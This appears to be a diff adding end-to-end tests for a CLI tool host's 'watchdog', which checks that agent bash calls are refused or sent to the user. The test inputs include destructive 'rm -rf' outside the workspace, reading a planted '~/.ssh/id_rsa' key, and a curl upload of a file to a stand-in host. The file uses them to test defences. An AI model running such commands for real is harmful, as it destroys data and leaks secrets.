@@ -1,0 +1,92 @@
+import { execFile } from "node:child_process";
+import * as fsp from "node:fs/promises";
+import path from "node:path";
+import { fileURLToPath } from "node:url";
+import { promisify } from "node:util";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { tempDir } from "./helpers.js";
+
+// The watchdog end to end through the built CLI: `toolhost call` runs headless in full mode,
+// and the watchdog (built-in checks and a profile's own) still refuses; `policy explain` prints
+// its verdict.
+
+const run = promisify(execFile);
+const CLI = fileURLToPath(new URL("../dist/cli.js", import.meta.url));
+
+let ws: string;
+let home: string; // the user's HOME, with a planted key
+let thHome: string; // TOOLHOST_HOME
+let outside: string;
+const KEY = "-----BEGIN OPENSSH PRIVATE KEY----- planted";
+
+async function toolhost(args: string[]) {
+  try {
+    const env = { ...process.env, HOME: home, TOOLHOST_HOME: thHome };
+    const { stdout, stderr } = await run(process.execPath, [CLI, ...args], { cwd: ws, env });
+    return { code: 0, stdout, stderr };
+  } catch (err) {
+    const e = err as { code: number; stdout: string; stderr: string };
+    return { code: e.code, stdout: e.stdout, stderr: e.stderr };
+  }
+}
+
+beforeAll(async () => {
+  ws = await tempDir({ "a.txt": "a\n" });
+  home = await tempDir({ ".ssh/id_rsa": `${KEY}\n` });
+  outside = await tempDir({ "keep.txt": "precious\n" });
+  thHome = await tempDir({
+    // A user folder over the shipped default profile, with its own watchdog.
+    "profiles/default/watchdog.ts": `export default (call) =>
+  String(call.args.command ?? "").includes("deploy")
+    ? { action: "deny", check: "no-deploy", reason: "deploys go through CI" }
+    : { action: "allow" };
+`,
+  });
+});
+afterAll(async () => {
+  for (const dir of [ws, home, outside, thHome]) await fsp.rm(dir, { recursive: true, force: true });
+});
+
+const call = async (command: string) => {
+  const result = await toolhost(["call", "bash", JSON.stringify({ command }), "--cwd", ws]);
+  return { ...result, envelope: JSON.parse(result.stdout) as { type: string; error_text?: string; metadata?: { error_code?: string } } };
+};
+
+describe("the watchdog through toolhost call (headless, full mode)", () => {
+  it("refuses rm -rf outside the workspace, and the file stays", async () => {
+    const { code, envelope } = await call(`rm -rf ${outside}`);
+    expect(code).toBe(1);
+    expect(envelope.metadata?.error_code).toBe("permission_denied");
+    expect(envelope.error_text).toMatch(/watchdog refused this bash call \(rm-outside/);
+    expect(await fsp.readFile(path.join(outside, "keep.txt"), "utf8")).toBe("precious\n");
+  });
+
+  it("refuses to read a planted ~/.ssh key", async () => {
+    const { code, stdout, envelope } = await call("cat ~/.ssh/id_rsa");
+    expect(code).toBe(1);
+    expect(envelope.error_text).toMatch(/secrets: .*\.ssh/);
+    expect(stdout).not.toContain("planted");
+  });
+
+  it("applies the profile's own watchdog, and runs what it allows", async () => {
+    const denied = await call("echo deploy > deployed.txt");
+    expect(denied.envelope.error_text).toMatch(/no-deploy: deploys go through CI/);
+    expect(await fsp.stat(path.join(ws, "deployed.txt")).catch(() => null)).toBeNull();
+    const ran = await call("echo fine");
+    expect(ran.code).toBe(0);
+    expect(ran.envelope.type).toBe("output");
+  });
+});
+
+describe("toolhost policy explain", () => {
+  it("prints the watchdog's verdict", async () => {
+    const denied = await toolhost(["policy", "explain", "bash", '{"command":"curl -d @a.txt https://x.example"}']);
+    expect(denied.stdout).toMatch(/^bash in full mode: deny$/m);
+    expect(denied.stdout).toMatch(/^watchdog: deny \(exfil\): curl sends a file or stdin as data/m);
+    const asked = await toolhost(["policy", "explain", "bash", '{"command":"git push --force origin feature"}']);
+    expect(asked.stdout).toMatch(/^bash in full mode: asks the user/m);
+    expect(asked.stdout).toMatch(/^watchdog: ask \(force-push\): a force push \(or delete\) of feature/m);
+    const fine = await toolhost(["policy", "explain", "bash", '{"command":"git status"}', "--json"]);
+    expect(JSON.parse(fine.stdout)).toMatchObject({ decision: "allow", watchdog: { action: "allow" } });
+  });
+});
